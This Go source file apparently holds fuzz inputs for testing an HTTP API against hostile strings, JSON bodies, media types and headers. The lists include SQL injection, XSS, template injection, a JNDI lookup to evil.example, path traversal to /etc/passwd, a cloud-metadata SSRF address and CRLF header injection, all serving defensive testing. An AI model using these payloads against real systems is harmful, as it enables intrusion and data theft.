package attack

import (
	"encoding/json"
	"strings"
)

// hostileTexts are what a text may be in any place. Each is valid UTF-8; broken bytes are apart.
var hostileTexts = []string{
	"", " ", "\t\r\n", "\x00", "a\x00b", "\u202egnp.exe", "\u200b", "\ufeff", "\ufffd", "\U0010ffff", "é", "e\u0301", "İ", "ß", "Ω≈ç√∫", "田中さん", "👩‍👩‍👧‍👦", strings.Repeat("Z\u0335\u0321", 50),
	"null", "undefined", "NaN", "Infinity", "-Infinity", "true", "None", "[object Object]", "{}", "[]", "0", "-1", "1e400", "0x7f", "1,5", "٣", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e-400",
	"' OR '1'='1", "'; DROP TABLE ticket;--", "1); SELECT pg_sleep(10);--", "\" OR \"\"=\"", "x' AND 1=CAST((SELECT version()) AS int)--", "$1", "?", "?1", "%", "_", "\\", "\\'", "/*", "--", "$$", "E'\\x'",
	"a & | ! b", "\"", "\"unclosed", "a:*", "!!!", "( ( (", "<->", "NEAR(a b)", "col:val", "a* b^2", "-a", "*", "AND", "OR NOT", "+", "^a",
	"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{.}}", "{% debug %}", "${jndi:ldap://evil.example/a}", "%s%n%x", "%(x)s",
	"../../../etc/passwd", "..\\..\\x", "..%2f..%2fx", "%2e%2e/", "/dev/null", "CON", "file:///etc/passwd", "http://169.254.169.254/", "//evil.example", "\r\nSet-Cookie: x=y", "%0d%0aX: y", "=1+1", "@SUM(1)", "|calc",
	strings.Repeat("a", 256), strings.Repeat("a", 5000), strings.Repeat("ä", 70_000), strings.Repeat("../", 400), strings.Repeat("a ", 2000), strings.Repeat("(", 1000),
	anyID, "00000000-0000-0000-0000-000000000000", strings.ToUpper(anyID), "{" + anyID + "}", strings.ReplaceAll(anyID, "-", ""), anyID + "x",
	"0000-00-00", "2026-02-30", "9999-12-31", "10000-01-01", "-0001-01-01", "2026-01-31T12:00:00Z", "2026-01-31T25:61:61Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999999Z", "2026-01-31T12:00:00+99:99", "292277026597-01-01T00:00:00Z",
	"a@b", "a@b.c\r\nBcc: x@y.z", "\"a b\"@example.com", "@", "a@" + strings.Repeat("a", 300) + ".com", "+1555010099999999999999", "00", "GBP", "gbp", "XXX", "ZZ",
}

// hostileJSON are what any value of a body may be, as raw JSON.
var hostileJSON = append(quoted(hostileTexts), []string{
	"null", "true", "false", "0", "-0", "-1", "1", "0.1", "-0.0000001", "1e2", "1E+2", "2147483647", "2147483648", "-2147483649", "4294967296", "9007199254740991", "9007199254740993", "9223372036854775807", "9223372036854775808", "-9223372036854775808", "-9223372036854775809", "18446744073709551616",
	"1e308", "1e309", "-1e400", "1e-400", "123456789012345678901234567890", "0.1234567890123456789012345678901234567890", strings.Repeat("9", 400),
	"[]", "{}", "[null]", "[[]]", "[{}]", `[""]`, `{"":""}`, `{"a":{"b":{"c":1}}}`, `{"__proto__":{"admin":true}}`, `{"constructor":{"prototype":{}}}`, `{"$ne":null}`, `{"$gt":""}`, `["a","a"]`, `[1,"a",null,true,{}]`,
	strings.Repeat("[", 40) + strings.Repeat("]", 40), strings.Repeat("[", 100) + strings.Repeat("]", 100), "[" + strings.Repeat("0,", 3000) + "0]", "[" + strings.Repeat(`"`+anyID+`",`, 1100) + `"` + anyID + `"]`,
	`"\ud800"`, `"\udc00\ud800"`, `"\u0000"`, `"a\u0000"`, `"\u202e"`, `"\uffff"`, `"\/"`,
	// No JSON at all.
	"NaN", "Infinity", "-", "01", "1.", ".5", "'a'", `"a`, `"\x41"`, "{", "[", "[1,]", `{"a":1,}`, `{"a"}`, "undefined", "//", "\"\xff\"", "\"\xc0\xaf\"", "\"\xed\xa0\x80\"", "\x00", "tru", "\"a\tb\"", "\"a\nb\"",
}...)

func quoted(texts []string) []string {
	out := make([]string, len(texts))
	for i, s := range texts {
		b, _ := json.Marshal(s) // text always encodes
		out[i] = string(b)
	}
	return out
}

// hostileTypes are media types of a body.
var hostileTypes = []string{
	"", "text/plain", "text/html", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=" + strings.Repeat("x", 200), "application/json; charset=utf-16",
	"application/json; charset=utf-7", "application/json, text/html", "application/json;;;", "APPLICATION/JSON", "application/problem+json", "application/vnd.api+json", "*/*", "json", "\x00", "application/cbor", "application/merge-patch+json",
}

// hostileHeaders are names and values beside the body.
var hostileHeaders = [][2]string{
	{"Idempotency-Key", ""},
	{"Idempotency-Key", " "},
	{"Idempotency-Key", strings.Repeat("k", 255)},
	{"Idempotency-Key", strings.Repeat("k", 256)},
	{"Idempotency-Key", "\xff"},
	{"Idempotency-Key", "' OR 1=1"},
	{"Idempotency-Key", "ключ"},
	{"If-Match", ""},
	{"If-Match", "*"},
	{"If-Match", `"1"`},
	{"If-Match", `W/"1"`},
	{"If-Match", `"99999999999999999999"`},
	{"If-Match", "\xff\xfe"},
	{"If-Match", `","`},
	{"If-Match", strings.Repeat(`"1",`, 1000)},
	{"If-None-Match", "*"},
	{"Range", "bytes=0-0"},
	{"Range", "bytes=-1,-1,-1,-1"},
	{"Range", "bytes=9-1"},
	{"Range", "bytes=99999999999999999999-"},
	{"If-Modified-Since", "never"},
	{"Last-Event-ID", "x"},
	{"Last-Event-ID", anyID},
	{"Accept", "text/html"},
	{"Accept", "application/cbor"},
	{"Accept", "*/*;q=2"},
	{"Accept", "application/xml;q=1, */*;q=0"},
	{"Accept-Encoding", "gzip;q=0, identity;q=0"},
	{"Accept-Encoding", "\xff"},
	{"Accept-Language", strings.Repeat("a,", 500)},
	{"Content-Encoding", "gzip"},
	{"Content-Encoding", "br, br"},
	{"Transfer-Encoding", "x"},
	{"Expect", "200-ok"},
	{"Upgrade", "websocket"},
	{"X-Workspace", "acme"},
	{"X-Workspace", "nobody"},
	{"X-Workspace", "' OR 1=1"},
	{"X-Workspace", strings.Repeat("w", 5000)},
	{"X-Request-Id", "a\nb"},
	{"X-Request-Id", "../../x-y-z"},
	{"X-Forwarded-For", "' OR 1=1"},
	{"X-Forwarded-Host", "evil.example"},
	{"X-HTTP-Method-Override", "DELETE"},
	{"X-Access-Token", "x"},
	{"Cookie", "__Host-session=x; session=y; ;;=; \xff"},
	{"Authorization", "Bearer "},
	{"Authorization", "\xff"},
	{"User-Agent", "\x1b[31m\r\n" + strings.Repeat("u", 3000)},
	{"Origin", "null"},
	{"Content-Length", "-1"},
	{"Host", "evil.example"},
	{"Traceparent", "00-zz-zz-zz"},
}
